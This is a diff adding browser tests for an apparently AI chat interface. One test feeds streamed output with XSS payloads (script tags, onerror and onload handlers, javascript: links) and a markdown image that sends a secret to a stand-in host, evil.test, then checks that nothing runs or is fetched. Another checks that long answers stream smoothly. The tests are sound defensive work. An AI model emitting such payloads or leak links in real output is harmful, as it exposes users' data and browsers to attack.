@@ -176,3 +176,51 @@ def test_a_browser_whose_sockets_are_blocked_follows_by_events(
     expect(page.locator(".answer")).to_contain_text("still arrives", timeout=20_000)
     expect(page.locator(".answer.is-streaming")).to_have_count(0)
     assert page.locator(".prompt").count() == 1
+
+
+HOSTILE = "\n\n".join(
+    [
+        "<script>alert(1)</script><img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)></svg> [click](javascript:alert(1))",
+        "![leak](https://evil.test/?q=SECRET) [a](data:text/html,<script>alert(1)</script>)",
+        "```html\n<script>alert(1)</script>\n```",
+    ]
+)
+
+
+def test_hostile_output_runs_nothing_and_asks_nobody(person: NewPerson, client: Client) -> None:
+    session = client.create("<img src=x onerror=alert(1)>")
+    page = person().tab(f"/s/{session}/")
+    asked: list[str] = []
+    shown: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("dialog", lambda dialog: (shown.append(dialog.message), dialog.dismiss()))
+    page.fill("textarea", scripted({"say": HOSTILE, "chunks": 12, "every_ms": 30}))
+    page.press("textarea", "Enter")
+    expect(page.locator(".answer")).to_contain_text("leak (evil.test)")
+    expect(page.locator(".answer.is-streaming")).to_have_count(0)
+    page.reload()
+    page.wait_for_timeout(500)
+    assert shown == []
+    assert [url for url in asked if "evil" in url] == []
+    assert page.locator("[data-transcript] img, [data-transcript] script").count() == 0
+
+
+def test_a_long_answer_streams_without_holding_the_page(person: NewPerson, client: Client) -> None:
+    session = client.create("Long and fast")
+    page = person().tab(f"/s/{session}/")
+    page.evaluate(
+        """() => {
+            window.longest = 0;
+            new PerformanceObserver((list) => {
+                for (const entry of list.getEntries())
+                    window.longest = Math.max(window.longest, entry.duration);
+            }).observe({ type: "longtask" });
+        }"""
+    )
+    text = "\n\n".join(f"Paragraph {n}: " + "some **words** of it. " * 20 for n in range(120))
+    page.fill("textarea", scripted({"say": text, "chunks": 400, "every_ms": 10}))
+    page.press("textarea", "Enter")
+    expect(page.locator(".answer")).to_contain_text("Paragraph 119", timeout=30_000)
+    expect(page.locator(".answer.is-streaming")).to_have_count(0)
+    assert page.evaluate("window.longest") < 200
